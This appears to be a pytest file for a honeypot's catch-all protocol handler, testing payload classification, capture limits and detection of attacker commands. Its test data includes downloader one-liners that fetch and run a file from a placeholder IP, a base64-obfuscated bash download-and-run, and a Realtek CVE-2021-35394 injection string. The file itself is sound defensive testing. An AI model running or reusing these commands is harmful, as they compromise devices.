"""The catch-all: what first bytes look like, that everything is kept, and that nothing is answered."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from eudaemon.events.catalogue import ExploitRecognised, PayloadClassified
from eudaemon.protocols import _plain as plain
from eudaemon.protocols._base import HalfClosed
from eudaemon.protocols._signatures import HEAD_BYTES, ROWS, looks_like
from eudaemon.protocols.catchall import (
    DATAGRAMS_MAX,
    DOORS,
    LINE_BYTES_MAX,
    LOOK_BYTES_MAX,
    LOOKS_MAX,
    PAYLOAD_BYTES_MAX,
    CatchAll,
)
from eudaemon.testing.script import Table, play, visit
from eudaemon.wire import Purse

WHOLE = (  # messages as real clients send them
    ("tcp", "tls", bytes.fromhex("16030100a5010000a10303") + bytes(60)),
    ("tcp", "ssh", b"SSH-2.0-libssh2_1.4.3\r\n"),
    ("tcp", "smb", bytes.fromhex("00000085ff534d4272000000001853c8") + bytes(20)),
    ("tcp", "rdp", bytes.fromhex("0300002b26e00000000000") + b"Cookie: mstshash=hello\r\n"),
    ("tcp", "http", b"GET / HTTP/1.0\r\n\r\n"),
    ("tcp", "mssql", bytes.fromhex("1201002f0000000000001a0006010020") + bytes(30)),
    ("tcp", "redis", b"*1\r\n$4\r\nINFO\r\n"),
    ("tcp", "adb", b"CNXN\x01\x00\x00\x01" + bytes(16) + b"host::\0"),
    ("tcp", "mqtt", b"\x10\x0f\x00\x04MQTT\x04\x02\x00\x3c\x00\x03abc"),
    ("udp", "sip", b"OPTIONS sip:100@192.0.2.1 SIP/2.0\r\n"),
    ("tcp", "rtsp", b"OPTIONS rtsp://192.0.2.1/ RTSP/1.0\r\n"),
    ("tcp", "ldap", bytes.fromhex("300c020101600702010304008000")),
    ("tcp", "java-serialised", bytes.fromhex("aced0005737200")),
    ("tcp", "openwire", b"\x00\x00\x00\xf0\x01ActiveMQ\x00\x00\x00\x0c"),
    ("tcp", "vnc", b"RFB 003.008\n"),
    ("tcp", "socks5", b"\x05\x01\x00"),
    ("tcp", "bittorrent", b"\x13BitTorrent protocol" + bytes(48)),
    ("udp", "dns", bytes.fromhex("123401000001000000000000") + b"\x07version\x04bind\x00\x00\x10\x00\x03"),
    ("tcp", "dns", bytes.fromhex("001e123401000001000000000000") + b"\x07version\x04bind\x00\x00\x10\x00\x03"),
    ("udp", "ntp", b"\x17\x00\x03\x2a" + bytes(4)),
    ("udp", "snmp", bytes.fromhex("302602010104067075626c6963a019")),
    ("udp", "memcached", b"\x00\x00\x00\x00\x00\x01\x00\x00stats\r\n"),
    ("tcp", "elf", b"\x7fELF\x01\x01\x01" + bytes(60)),
    ("tcp", "pe", b"MZ\x90\x00"),
    ("tcp", "json", b'{"method":"login"}'),
    ("tcp", "shell", b"cd /tmp; wget http://a/b\n"),
    ("tcp", "shell", b"/bin/busybox wget http://a/b\n"),
    ("tcp", "text", b"hello\r\n"),
    ("tcp", "zeros", bytes(8)),
    ("tcp", "unknown", b"\xde\xad\xbe\xef"),
)


@pytest.mark.parametrize(("transport", "guess", "data"), WHOLE, ids=[row[1] for row in WHOLE])
def test_what_clients_send_is_named(transport: str, guess: str, data: bytes) -> None:
    talk = Table(CatchAll(visit(transport=transport))).open()
    talk.say(data)
    talk.wait(3)
    talk.end()
    assert [f for f in talk.facts if isinstance(f, PayloadClassified)] == [PayloadClassified(guess, data[:64].hex())]
    assert [(keep.origin, keep.data) for keep in talk.kept] == [("payload", data)]
    assert talk.sent == b""


@pytest.mark.parametrize("row", ROWS, ids=lambda row: f"{row[0]}-{row[3][:8].hex()}")
def test_no_signature_is_shadowed_by_another(row: tuple[str, str, int, bytes]) -> None:
    guess, transports, offset, mark = row
    assert offset + len(mark) <= HEAD_BYTES
    for letter in transports:
        assert looks_like(b"\x99" * offset + mark, {"t": "tcp", "u": "udp"}[letter]) == guess


@given(st.binary(max_size=80))
def test_any_first_bytes_have_a_name(head: bytes) -> None:
    assert looks_like(head, "tcp")
    assert looks_like(head, "udp")


SHELL = r"""
> cd /tmp || cd /var/run || cd /mnt; rm -rf x; wget http://198.51.100.7/x; chmod 777 x; ./x\n
! payload.classified guess='shell'
! command.entered
? http://198.51.100.7/x
= ok 2321
> echo hello\necho -e '\\x01\\x02' > /tmp/f
! command.entered line='echo hello'
"""


@pytest.mark.parametrize("split", [0, 1])
def test_commands_go_to_the_shell_and_nothing_is_shown(split: int) -> None:
    talk = play(CatchAll, SHELL, split=split)
    talk.tell(HalfClosed(talk.at_s))
    assert talk.over
    talk.end()
    assert ("upload", "/tmp/f", b"\1\2\n") in [(keep.origin, keep.name, keep.data) for keep in talk.kept]
    assert talk.sent == b""


def test_the_line_stays_open_for_what_a_command_still_fetches() -> None:
    talk = Table(CatchAll(visit())).open()
    talk.say(b"wget http://198.51.100.7/1; wget http://198.51.100.7/2")
    talk.tell(HalfClosed(talk.at_s))
    assert not talk.over
    talk.answer("ok")
    talk.answer("failed")
    assert talk.over


def test_realtek_jungle() -> None:
    talk = Table(CatchAll(visit(transport="udp", port=9034))).open()
    talk.say(b"orf;cd /tmp; wget http://198.51.100.7/x\n")
    assert ExploitRecognised("realtek-jungle", "CVE-2021-35394", "cd /tmp; wget http://198.51.100.7/x") in talk.facts
    assert talk.wishes[0].download.url == "http://198.51.100.7/x"


def test_a_flood_of_datagrams_is_looked_at_only_so_often() -> None:
    talk = Table(CatchAll(visit(transport="udp"))).open()
    for _ in range(DATAGRAMS_MAX + 10):
        talk.say(b"orf;id")
    assert len([fact for fact in talk.facts if isinstance(fact, ExploitRecognised)]) == DATAGRAMS_MAX
    talk.end()
    assert talk.kept[0].data == b"orf;id" * (DATAGRAMS_MAX + 10)


@pytest.mark.parametrize("past", [-1, 0, 1])
def test_a_payload_is_kept_up_to_its_limit(past: int) -> None:
    talk = Table(CatchAll(visit())).open()
    size = PAYLOAD_BYTES_MAX + past
    for start in range(0, size, 65536):
        talk.say(b"\xde" * min(65536, size - start))
    assert len(talk.kept) == (past > 0), "kept as soon as it is a part"
    assert talk.room.visit.purse.bytes_taken == (0 if past > 0 else size)
    talk.end()
    assert [(len(keep.data), keep.partial) for keep in talk.kept] == [(min(size, PAYLOAD_BYTES_MAX), past > 0)]
    assert talk.room.visit.purse.bytes_taken == 0


def test_what_the_purse_does_not_hold_ends_the_session_and_the_rest_is_kept() -> None:
    talk = Table(CatchAll(visit(purse=Purse(100)))).open()
    talk.say(b"\xde" * 100)
    assert not talk.fault
    talk.say(b"\xde")
    assert "holds" in talk.fault or "held" in talk.fault
    talk.end()
    assert [keep.data for keep in talk.kept] == [b"\xde" * 100]


def test_a_command_as_long_as_allowed_and_not_one_more() -> None:
    for past in (0, 1):
        talk = Table(CatchAll(visit())).open()
        talk.say(b"echo ".ljust(LINE_BYTES_MAX + past, b"a") + b"\n")
        assert bool(talk.fault) == bool(past)


def test_what_came_is_looked_into_when_nothing_more_comes_but_not_for_ever() -> None:
    talk = Table(CatchAll(visit())).open()
    for count in range(1, LOOKS_MAX + 2):
        talk.say(b"\x90" * 70)
        talk.say(b"\x91")
        talk.wait(3)
        assert len(talk.looks) == min(count, LOOKS_MAX)
    assert talk.looks[0] == b"\x90" * 70 + b"\x91"
    assert talk.looks[1] == talk.looks[0] * 2
    typed = Table(CatchAll(visit())).open()
    typed.say(b"cd /tmp; wget http://198.51.100.7/x".ljust(HEAD_BYTES))
    typed.wait(3)
    assert typed.looks == []


@pytest.mark.parametrize("past", [0, 1])
def test_what_is_too_large_for_an_exploit_is_looked_into_when_it_is_kept(past: int) -> None:
    talk = Table(CatchAll(visit())).open()
    talk.say(b"\xde" * (LOOK_BYTES_MAX + past))
    talk.wait(3)
    assert len(talk.looks) == 1 - past


COMMAND = b"cd /tmp; wget http://198.51.100.7/x; sh x"
SPREAD = b"bash -c {echo,d2dldCBodHRwOi8vMTk4LjUxLjEwMC43L3g=}|{base64,-d}|{bash,-i}"
IN_PLAIN_TEXT = {
    "behind a length": b"\x80\0\0" + bytes((len(COMMAND),)) + COMMAND + b"txq",
    "behind a length that is a letter, before a letter": b"\x99\0A" + COMMAND.ljust(0x41) + b"x\x01",
    "between zeros": b"\0root\0root\0" + COMMAND + b"\0",
    "in a request for a web server": b"GET /a?b=;cd+/tmp;wget%20http://198.51.100.7/x HTTP/1.0\r\n\r\n",
    "in JSON": b'{"run": "' + COMMAND + b'"}',
    "in a message that has no other text": b"\x82\xa3cmd\xd9" + bytes((len(COMMAND),)) + COMMAND,
    "as Java executes it": b"\x01t\0" + bytes((len(SPREAD),)) + SPREAD + b"x",
}


@pytest.mark.parametrize("split", [0, 1])
@pytest.mark.parametrize("how", IN_PLAIN_TEXT)
def test_a_command_in_plain_text_is_found_and_run(how: str, split: int) -> None:
    talk = Table(CatchAll(visit())).open()
    talk.say(IN_PLAIN_TEXT[how], split)
    talk.wait(3)
    assert [wish.download.url for wish in talk.wishes] == ["http://198.51.100.7/x"]
    talk.tell(HalfClosed(talk.at_s))
    talk.answer("ok", b"#!/bin/sh\n")
    talk.end()
    found = [fact for fact in talk.facts if isinstance(fact, ExploitRecognised)]
    by = "shell-injection" if IN_PLAIN_TEXT[how].startswith(b"GET ") else "command-in-plain-text"
    assert [fact.name for fact in found] == [by], "and once"
    assert b"wget" in found[0].command.encode() or "base64" in found[0].command
    assert [keep.data for keep in talk.kept if keep.origin == "payload"] == [IN_PLAIN_TEXT[how]]
    assert talk.sent == b""


@pytest.mark.parametrize("text", [
    b"GET / HTTP/1.1\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n",
    b"\x01\x02hello, this is sh and curl is a tool\0",
    b"\x7fELF\1\1\1\0\0\0wget http://198.51.100.7/x\0",
    b"#!/bin/sh\nwget http://198.51.100.7/x\n",
])  # fmt: skip
def test_what_only_reads_like_a_command_is_none(text: bytes) -> None:
    talk = Table(CatchAll(visit())).open()
    talk.say(text)
    talk.wait(3)
    talk.end()
    assert not [fact for fact in talk.facts if isinstance(fact, ExploitRecognised)]


def test_only_so_many_commands_of_a_payload_are_run() -> None:
    for past in (0, 1):
        talk = Table(CatchAll(visit())).open()
        talk.say(b"".join(b"\1\0\x0fecho %08d|sh\0" % number for number in range(plain.COMMANDS_MAX + past)))
        talk.wait(3)
        talk.say(b"\1\2wget http://198.51.100.7/later\0")
        talk.end()
        assert len([fact for fact in talk.facts if isinstance(fact, ExploitRecognised)]) == plain.COMMANDS_MAX
    far = b"\x99" * plain.LOOKED_BYTES_MAX
    assert plain.commands(far[: -len(COMMAND)] + COMMAND) == [COMMAND]
    assert plain.commands(far + COMMAND) == []
    many = b"not a command\0" * plain.TEXTS_MAX
    assert plain.commands(many[14:] + COMMAND) == [COMMAND]
    assert plain.commands(many + COMMAND) == []
    long = b"cd /tmp; wget http://198.51.100.7/x ".ljust(plain.COMMAND_BYTES_MAX + 1, b"a")
    assert plain.commands(b"\0" + long) == [long[: plain.COMMAND_BYTES_MAX]]


@pytest.mark.parametrize(("before", "name"), [(door[2], door[0]) for door in DOORS])
def test_doors_that_take_commands_in_datagrams(before: bytes, name: str) -> None:
    talk = Table(CatchAll(visit(transport="udp", port=53413))).open()
    talk.say(before + COMMAND + b"\0")
    assert [fact.command for fact in talk.facts if isinstance(fact, ExploitRecognised)] == [COMMAND.decode()]
    assert [fact.name for fact in talk.facts if isinstance(fact, ExploitRecognised)] == [name]
    assert [wish.download.url for wish in talk.wishes] == ["http://198.51.100.7/x"]
    assert talk.sent == b""


def test_a_command_somewhere_in_a_datagram() -> None:
    talk = Table(CatchAll(visit(transport="udp", port=17185))).open()
    talk.say(b"\1\2\0\x29" + COMMAND)
    assert [wish.download.url for wish in talk.wishes] == ["http://198.51.100.7/x"]
